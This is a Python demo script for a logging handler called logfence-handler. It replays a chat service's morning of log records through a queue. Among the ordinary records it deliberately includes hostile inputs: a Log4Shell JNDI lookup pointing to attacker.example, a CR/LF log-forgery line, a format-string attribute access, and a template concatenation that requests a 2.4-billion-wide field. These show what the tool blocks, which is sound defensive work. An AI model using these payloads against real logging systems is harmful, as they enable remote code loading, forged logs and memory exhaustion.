"""The demo's application: a chat service's morning, logged with the standard `logging`
module through logfence-handler (clients/python), so the demo shows the whole path: app ->
handler -> queue -> logfence -> sink.

    python demo_app.py --url AMQP_URL --queue QUEUE   publish; exits once every record is confirmed
    python demo_app.py --capture FILE                 append the records to FILE as NDJSON instead

The morning is a replay: each record keeps the time it happened (the `at` extra, taken off
by a filter), so the demo prints the same lines every time. Among ordinary records in the
three template styles are the hostile ones: the incident's link logged as text and
concatenated into a template, a Log4Shell lookup, a CR/LF forgery, an attribute access.
Exit status 0 when every record was sent (or captured), 1 otherwise.
"""

from __future__ import annotations

import argparse
import datetime
import logging
import sys

from logfence_handler import BraceMessage as __
from logfence_handler import DollarMessage, LogfenceHandler

# `%24` is a URL-encoded `$`, so inside a template `%2400000000d` is a `%d` 2.4 billion wide.
LINK = "https://www.amazon.com/dp/B0CHX1W1XY?ref=%2400000000d&tag=chat-share-20"


class Replay(logging.Filter):
    """Stamps a record with the time in its `at` extra (RFC 3339 or epoch seconds)."""

    def filter(self, record: logging.LogRecord) -> bool:
        at = record.__dict__.pop("at", None)
        if isinstance(at, str):
            at = datetime.datetime.fromisoformat(at.replace("Z", "+00:00")).timestamp()
        if at is not None:
            record.created = float(at)
        return True


def morning() -> None:
    logging.getLogger("chat.delivery").info(
        "message %s sent to room %s by user %d (%d bytes, %.1f ms)",
        "m-8f3a2c", "general", 4211, 1337, 3.25,
        extra={
            "at": "2026-11-22T10:00:00.123Z",
            "request_id": "7d1f0c9e-4b7a-4f0e-9a51-2c3d4e5f6a7b",
            "shard": 3,
        },
    )
    logging.getLogger("chat.ratelimit").warning(
        "rate limit hit for user_id=%(user_id)d in %(room)s: %(count)d msgs in %(window)ss",
        {"user_id": 99120, "room": "lobby", "count": 31, "window": 10},
        extra={"at": "2026-11-22T10:00:02.500+01:00"},
    )
    logging.getLogger("chat.presence").info(
        __("user {user} joined {room!r} ({members:,} members online)",
           user="zoë", room="#random", members=12873),
        extra={"at": 1795428000.5},
    )
    logging.getLogger("deploy").info(
        DollarMessage("deploy of $service $version to $env finished in ${seconds}s by $who",
                      service="chat-api", version="v2.14.3", env="prod-eu-west-1",
                      seconds=84.2, who="ci-bot"),
        extra={"at": "2026-11-22T10:00:08Z"},
    )
    logging.getLogger("http.access").info(
        '%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"',
        "203.0.113.7", "22/Nov/2026:10:00:03 +0000", "GET",
        "/api/v1/rooms/general/messages?limit=50&before=m-8f3a2c", 200, 18342,
        "https://chat.example.com/r/general",
        "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
        extra={"at": "2026-11-22T10:00:03Z"},
    )
    logging.getLogger("chat.messages").debug(
        "%s → %s: %r", "李雷", "韩梅梅", "明天见 👋 see you tomorrow!",
        extra={"at": "2026-11-22T10:00:01Z"},
    )
    logging.getLogger("monitor.disk").warning(
        "disk usage at 93% on /var/lib/rabbitmq (threshold 90%)",
        extra={"at": "2026-11-22T10:00:09Z"},
    )
    # A legacy component's line, relayed as it is (logged now, by the root logger).
    logging.getLogger().info(
        '2026-11-22 10:00:11,482 INFO  [chat-gateway] websocket session 4f2a opened from '
        '198.51.100.23 (user=alice, ua="okhttp/4.12.0")\n'
    )
    chat = logging.getLogger("chat")
    # The incident. Logged as a message, the link is harmless text ...
    chat.info("user bob shared " + LINK, extra={"at": "2026-11-22T10:00:12Z"})
    # ... concatenated into the template, it asks for 2.4 GB. logfence refuses it.
    chat.info("%s shared " + LINK, "bob", extra={"at": "2026-11-22T10:00:12Z"})
    logging.getLogger("http").info(
        "User-Agent: ${jndi:ldap://attacker.example/a}", extra={"at": "2026-11-22T10:00:00Z"}
    )
    logging.getLogger("auth").info(
        "login ok for bob\r\n2026-11-22T10:00:00.000Z ERROR root: admin password reset",
        extra={"at": "2026-11-22T10:00:00Z"},
    )
    chat.info(__("{0.__class__}", "x"), extra={"at": "2026-11-22T10:00:00Z"})


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--url", help="the broker (default AMQP_URL, else the local one)")
    ap.add_argument("--queue", default="logs")
    ap.add_argument("--capture", help="append NDJSON records to this file instead")
    opts = ap.parse_args()

    handler = LogfenceHandler(url=opts.url, queue=opts.queue, capture=opts.capture)
    handler.addFilter(Replay())
    root = logging.getLogger()
    root.setLevel(logging.DEBUG)
    root.addHandler(handler)

    morning()

    sent = handler.flush(30)
    stats = handler.stats()
    handler.close()
    if not sent or stats["sent"] != stats["emitted"]:
        print("demo_app.py: not every record was sent: %s" % stats, file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
